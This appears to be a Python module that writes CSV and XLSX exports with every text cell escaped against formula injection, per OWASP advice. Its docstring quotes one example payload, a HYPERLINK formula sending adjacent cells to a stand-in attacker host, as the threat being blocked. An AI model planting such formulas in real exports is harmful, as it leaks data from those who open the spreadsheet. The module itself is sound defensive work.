"""CSV and XLSX files in which no cell can run as a formula: the one way every export is
written.

Excel and LibreOffice take a CSV cell that starts with `=`, `+`, `-` or `@` (or a tab or a
carriage return) for a formula, and openpyxl stores such a text as a live formula in XLSX: a
company named `=HYPERLINK("http://evil.example/?c="&A2,"x")` would have a coordinator's
spreadsheet send its neighbouring cells away. As OWASP advises against CSV injection, such a
text gets a leading apostrophe, in both formats so the two files read the same; XLSX text
cells are written with the string type whatever they hold; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterator
from typing import Any

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_START = re.compile(r"[\t\r\n]|[\x00-\x20]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
"""What a spreadsheet may take for the start of a formula: OWASP's `= + - @`, tab and carriage
return (and line feed), the four also behind leading blanks or control characters and in the
full-width forms that Excel accepts for the plain ones."""
ESCAPE = "'"


def neutralise(value: Any) -> Any:
    """The value to write in a cell: a text that could start a formula gets a leading
    apostrophe; anything else (a number, a negative one too) is returned as it is."""
    if isinstance(value, str) and FORMULA_START.match(value):
        return ESCAPE + value
    return value


def to_csv(frame: pd.DataFrame) -> bytes:
    """The frame as UTF-8 CSV under a header row, every cell neutralised. Rows end in CR LF,
    as RFC 4180 has it, so that a carriage return inside a cell is quoted too: with LF line
    ends it would be written bare, end the row there and start the next one with the rest."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in _rows(frame):
        writer.writerow(["" if value is None else neutralise(value) for value in row])
    return buffer.getvalue().encode("utf-8")


def to_xlsx(frame: pd.DataFrame, sheet: str) -> bytes:
    """The frame as one XLSX sheet under a header row: text cells are strings, never formulas;
    numbers are numbers; missing values are empty cells."""
    book = Workbook()
    book.remove(book.active)
    worksheet = book.create_sheet(title=sheet)
    for row_number, row in enumerate(_rows(frame), start=1):
        for column_number, value in enumerate(row, start=1):
            if value is not None:
                _write(worksheet.cell(row=row_number, column=column_number), value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rows(frame: pd.DataFrame) -> Iterator[list[Any]]:
    """The header, then each row, with numpy scalars as Python ones and any missing value as
    None."""
    yield [str(column) for column in frame.columns]
    for row in frame.itertuples(index=False, name=None):
        yield [_plain(value) for value in row]


def _plain(value: Any) -> Any:
    if isinstance(value, np.generic):
        value = value.item()
    if value is pd.NA or value is pd.NaT or (isinstance(value, float) and math.isnan(value)):
        return None
    return value


def _write(cell: Cell, value: Any) -> None:
    if isinstance(value, bool | int) or (isinstance(value, float) and math.isfinite(value)):
        cell.value = value
        return
    # XLSX cannot hold control characters (a title typed with one would fail the download):
    # they are dropped before the check, so that none can hide a formula behind it
    cell.value = neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    cell.data_type = "s"
